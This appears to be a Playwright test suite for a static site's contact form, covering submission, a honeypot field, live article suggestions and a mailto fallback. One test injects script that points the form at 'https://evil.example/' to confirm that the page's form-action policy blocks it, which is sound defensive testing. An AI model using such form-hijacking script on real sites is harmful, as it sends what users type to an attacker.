"""Asking in a real Chromium: the form against an endpoint of this machine, and what comes up while typing."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

import pytest
from playwright.sync_api import expect

from benchmarks.questions.asked import HELD_OUT, JUDGED, TUNED, questions
from benchmarks.questions.suggested import suggested
from benchmarks.server import serving
from commands.check.rules import Rules
from commands.questions.asking import common_words
from commands.questions.existing import matches, published_articles
from commands.questions.inverted_index import index_of
from tests.conftest import ROOT, run_build
from theme.filters import curly

TYPED = "I was fired last week, how do I say that in an interview?"


class _Endpoint(BaseHTTPRequestHandler):
    """Takes a form and sends the reader on, as a form service does."""

    def do_POST(self):
        sent = parse_qs(self.rfile.read(int(self.headers["Content-Length"])).decode())
        self.server.got.append({name: values[0] for name, values in sent.items()})
        wanted = "_error" if self.server.fails else "_next"
        # The site of this test answers on this machine, whatever its settings call it.
        path = urlsplit(sent[wanted][0]).path
        self.send_response(303)
        self.send_header("Location", self.server.site + path)
        self.end_headers()

    def log_message(self, *_args):
        pass


@pytest.fixture(scope="module")
def endpoint():
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Endpoint)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def asking(tmp_path_factory, endpoint):
    """The address of a site whose form goes to the endpoint, under the policy that its build wrote."""
    folder = tmp_path_factory.mktemp("asking")
    for name in ("content", "theme", "plugins", "commands", "pelicanconf.py", "publishconf.py"):
        (folder / name).symlink_to(ROOT / name)
    action = f"http://127.0.0.1:{endpoint.server_port}/ask"
    (folder / "formconf.py").write_text(
        f"from publishconf import *\n\nCONTACT_FORM = {action!r}\nPOLICY_IN_PAGES = True\n"
    )
    result = run_build(folder, "formconf.py")
    assert result.returncode == 0, result.stderr
    headers = (folder / "output/_headers").read_text("utf-8")
    assert f"form-action 'self' http://127.0.0.1:{endpoint.server_port};" in headers
    # The pages bear the policy themselves, so that it is the one that the setting made.
    with serving(folder / "output") as address:
        endpoint.site = address
        yield address


@pytest.fixture
def sent(endpoint):
    """What the endpoint got in this test; it takes everything."""
    endpoint.got, endpoint.fails = [], False
    return endpoint.got


def watched(page):
    """Return the list into which the page's console messages and the hosts that it asks will go."""
    messages = []
    page.on("console", lambda message: messages.append(message.text))
    page.on("pageerror", lambda error: messages.append(str(error)))
    return messages


@pytest.mark.parametrize("scripts", [True, False])
def test_a_question_is_sent_with_the_keyboard_alone(open_in, asking, sent, scripts):
    page = open_in(scripts=scripts)
    messages = watched(page)
    page.goto(f"{asking}/contact/")
    for _ in range(60):
        page.keyboard.press("Tab")
        if page.locator("#question:focus").count():
            break
    page.keyboard.type(TYPED)
    for _ in range(8):
        page.keyboard.press("Tab")
        if page.locator("#email:focus").count():
            break
    page.keyboard.type("reader@example.org")
    for _ in range(3):
        page.keyboard.press("Tab")
        if page.locator("button[type=submit]:focus").count():
            break
    page.keyboard.press("Enter")

    expect(page).to_have_url(f"{asking}/contact/sent/")
    expect(page.get_by_role("heading", level=1)).to_have_text("Your question is on its way")
    [got] = sent
    assert (got["message"], got["email"]) == (TYPED, "reader@example.org")
    assert "website-url" not in got  # the trap is there, and empty
    assert messages == []


def test_an_empty_question_is_not_sent_and_the_reader_is_led_to_it(open_in, asking, sent):
    page = open_in(scripts=False)
    page.goto(f"{asking}/contact/")

    page.get_by_role("button", name="Send the question").click()

    expect(page.locator("#question")).to_be_focused()
    assert sent == []


def test_where_the_endpoint_fails_nothing_that_was_typed_is_lost(open_in, asking, endpoint, sent):
    endpoint.fails = True
    page = open_in()
    page.goto(f"{asking}/contact/")
    page.locator("#question").fill(TYPED)
    page.get_by_role("button", name="Send the question").click()
    expect(page).to_have_url(f"{asking}/contact/not-sent/")
    expect(page.get_by_role("link", name="Write an email")).to_be_visible()

    page.go_back()

    expect(page.locator("#question")).to_have_value(TYPED)


def test_nobody_sees_or_reaches_the_trap(open_in, asking):
    page = open_in()
    page.goto(f"{asking}/contact/")

    expect(page.locator("[name=website-url]")).to_be_hidden()


def test_the_policy_lets_the_form_go_nowhere_else(open_in, asking, sent):
    page = open_in()
    page.goto(f"{asking}/contact/")
    page.locator("#question").fill(TYPED)
    with page.expect_console_message(lambda message: "form-action" in message.text):
        page.evaluate(
            "const form = document.querySelector('.ask-form-fields');"
            "form.action = 'https://evil.example/'; form.requestSubmit()"
        )

    assert page.url == f"{asking}/contact/"


def test_what_may_answer_comes_up_while_the_reader_types_and_nothing_is_loaded_before(
    open_in, address
):
    page = open_in(width=390)
    loaded = []
    page.on("request", lambda request: loaded.append(request.url))
    page.goto(f"{address}/contact/")
    page.wait_for_load_state("networkidle")
    assert not any("articles.json" in url or "existing" in url for url in loaded)

    page.locator("#question").press_sequentially(TYPED)

    status = page.locator(".ask-form-status")
    expect(status).to_have_text("3 articles may answer this already:")
    expect(status).to_have_role("status")
    first = page.locator(".ask-form-suggestions a").first
    expect(first).to_have_text("Say that you were fired, and move on")
    expect(page.locator("#question")).to_be_focused()
    assert TYPED.replace(" ", "%20") in page.get_by_role(
        "link", name="Write an email"
    ).get_attribute("href").replace("%2C", ",").replace("%3F", "?")
    first.click()
    page.get_by_role("heading", level=1).wait_for()
    page.go_back()
    expect(page.locator("#question")).to_have_value(TYPED)


def test_what_was_typed_before_the_script_came_is_taken_up(open_in, address):
    page = open_in()
    held = []
    page.route("**/suggest.*.js", lambda route: held.append(route))
    with page.expect_request("**/suggest.*.js"):
        page.goto(f"{address}/contact/")
    page.locator("#question").fill(TYPED)

    for route in held:
        route.continue_()

    expect(page.locator(".ask-form-suggestions a")).to_have_count(3)
    assert "fired" in page.get_by_role("link", name="Write an email").get_attribute("href")


IN_A_BROWSER = """async ([texts]) => {
  const { finder, index } = document.querySelector(".ask-form").dataset;
  const { openIndex } = await import(new URL(finder, document.baseURI));
  const find = await openIndex(new URL(index, document.baseURI));
  return texts.map((text) => find(text).map(({ title }) => title));
}"""


def test_the_page_finds_what_the_command_finds_in_the_same_order(open_in, address):
    texts = [text for name in (*TUNED, HELD_OUT, JUDGED) for text in questions(name)]
    texts += [
        "Résumé [name]: it’s “so”?  Ünïcode…\nAnd a 2nd line\tof intervieews",
        "面接で何を聞かれますか？",
    ]
    articles = published_articles(Rules(content=ROOT / "content"))
    index = index_of(articles, common_words(ROOT / "theme"))
    page = open_in()
    page.goto(f"{address}/contact/")

    found = page.evaluate(IN_A_BROWSER, [texts])

    for text, titles in zip(texts, found, strict=True):
        matched = [curly(match.source.value("title")) for match in matches(articles, index, text)]
        assert titles == matched[: len(titles)], text
    assert sum(map(len, found)) > 3 * len(texts)


def test_nothing_that_fits_is_said(open_in, address):
    page = open_in()
    page.goto(f"{address}/contact/")
    page.locator("#question").fill("Zyzzyva qwxz vlqpr?")

    expect(page.locator(".ask-form-status")).to_have_text("Nothing fits so far. Ask.")


@pytest.mark.long
def test_long_emails_find_their_article_while_they_are_typed(open_in, address):
    page = open_in()
    asked = questions("long")
    found = {text for text, right in asked.items() if right in suggested(page, address, text)}

    assert len(found) >= 17, [*asked.keys() - found]


def test_without_scripts_and_without_a_form_there_is_an_email_with_a_template(open_in, address):
    page = open_in(scripts=False)
    page.goto(f"{address}/contact/")

    expect(page.locator("#question")).to_be_hidden()
    href = page.get_by_role("link", name="Write an email").get_attribute("href")
    assert href.startswith("mailto:questions@example.org?subject=A%20question%20for")
    assert "&body=What%20happened" in href.replace("%0D%0A", "")
